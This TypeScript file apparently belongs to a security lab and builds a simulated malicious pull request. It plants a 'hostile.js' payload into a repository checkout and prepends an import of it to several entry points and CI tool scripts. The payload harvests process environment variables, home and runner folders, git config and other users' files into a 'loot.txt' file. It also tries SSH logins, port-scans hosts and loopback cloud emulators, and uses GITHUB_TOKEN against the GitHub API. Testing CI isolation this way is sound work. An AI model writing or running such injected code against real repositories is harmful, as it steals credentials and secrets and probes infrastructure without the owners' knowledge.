/**
 * A pull request that looks for secrets and hosts: in the program, in the provider, in the tools of the workflows and in
 * what a tool of these reads. It knows where everything of the lab lies.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/** What it looks at beside what it finds by itself. */
export interface Targets {
  /** Folders of everybody else. */
  readonly folders: readonly string[];
  readonly addresses: readonly string[];
  readonly logins: readonly string[];
  /** Host keys of these, as known_hosts has them: whoever attacks has seen them. */
  readonly knownHosts: string;
  /** Ports of loopback at which clouds are emulated. */
  readonly clouds: readonly number[];
}

/** File in its checkout into which it writes all that it has found. */
export const loot = "loot.txt";

/** Places from which it is run. */
export const entrances = [
  "index.ts",
  "provider/main.ts",
  "tools/ci/engine.ts",
  "tools/ci/preview.ts",
  "tools/ci/configuration.ts",
];

/** Puts the attack into a checkout. */
export function plant(folder: string, targets: Targets): void {
  writeFileSync(join(folder, "hostile.js"), attack(targets));
  for (const entrance of entrances) {
    const depth = entrance.split("/").length - 1;
    const path = depth === 0 ? "./hostile.js" : `${"../".repeat(depth)}hostile.js`;
    const file = join(folder, entrance);
    writeFileSync(file, `import ${JSON.stringify(path)};\n${readFileSync(file, "utf8")}`);
  }
}

/** Only what Node has, so that it runs wherever a program runs. */
export const attack = (targets: Targets): string => `
import { spawnSync } from "node:child_process";
import { appendFileSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { dirname, join } from "node:path";

const targets = ${JSON.stringify(targets)};
const here = import.meta.dirname;
function tell(what, text) {
  console.error("hostile:", what, text);
  appendFileSync(join(here, ${JSON.stringify(loot)}), what + " " + text + "\\n");
}
function look(path, left) {
  try {
    const is = statSync(path);
    if (is.isFile() && is.size < 100_000) tell(path, readFileSync(path, "utf8"));
    if (is.isDirectory() && left > 0) for (const name of readdirSync(path)) look(join(path, name), left - 1);
  } catch {}
}
tell("started", process.argv.join(" "));
for (const pid of readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) look("/proc/" + pid + "/environ", 0);
for (const name of ["HOME", "RUNNER_TEMP"]) if (process.env[name]) look(process.env[name], 3);
look(join(here, ".git/config"), 0);
for (const folder of targets.folders) look(folder, 3);
const known = join(here, "known_hosts");
writeFileSync(known, targets.knownHosts);
for (const login of targets.logins)
  tell("ssh " + login, spawnSync("ssh", ["-o", "BatchMode=yes", "-o", "UserKnownHostsFile=" + known, "-o", "ConnectTimeout=3", login, "id"], { encoding: "utf8" }).output.join(""));
const reach = (host, port) => new Promise((done) => {
  const socket = connect({ host, port, timeout: 3000 }, () => { tell("reached", host + ":" + port); socket.destroy(); done(); });
  socket.on("error", done).on("timeout", () => { socket.destroy(); done(); });
});
await Promise.all([
  ...targets.addresses.flatMap((address) => [22, 80, 5052, 9100, 15052].map((port) => reach(address, port))),
  ...targets.clouds.map((port) => reach("127.0.0.1", port)),
]);
const api = process.env.GITHUB_API_URL;
if (api) await fetch(api + "/repos/a/b/git/refs", { method: "POST", body: "{}", headers: { authorization: "Bearer " + (process.env.GITHUB_TOKEN ?? "") } })
  .then((answer) => tell("GitHub", String(answer.status)), () => {});
tell("ended", "");
`;
